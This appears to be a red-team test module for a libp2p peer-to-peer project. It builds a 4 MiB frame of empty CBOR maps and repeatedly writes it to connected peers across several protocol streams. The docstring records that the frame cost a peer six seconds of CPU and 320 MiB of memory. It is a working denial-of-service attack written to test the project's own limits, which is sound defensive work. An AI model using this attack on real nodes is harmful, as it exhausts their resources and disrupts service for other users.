"""A frame of four MiB full of empty maps (K-A).

It cost six seconds of processor and 320 MiB before the peer knew what it was.
"""

from __future__ import annotations

from libp2p.utils.varint import encode_varint_prefixed

from p2p.base.limits import MAX_FRAME
from tests.redteam.target import Target, each_tick, quietly

PER_S = 2.0
PROTOCOLS = ("/folkmoot/query/1", "/folkmoot/infer/1", "/folkmoot/payload/1", "/folkmoot/body/1")


async def attack(target: Target) -> None:
    count = MAX_FRAME - 16
    frame = encode_varint_prefixed(b"\x9a" + count.to_bytes(4, "big") + b"\xa0" * count)
    async with target.bare("empty maps") as host:
        async for number in each_tick(PER_S * len(target.addresses)):
            peers = list(host.get_connected_peers())
            if peers:
                stream = await quietly(
                    host.new_stream, peers[number % len(peers)], [PROTOCOLS[number % len(PROTOCOLS)]]
                )
                if stream is not None:
                    await quietly(stream.write, frame, timeout_s=4.0)
                    await quietly(stream.reset)
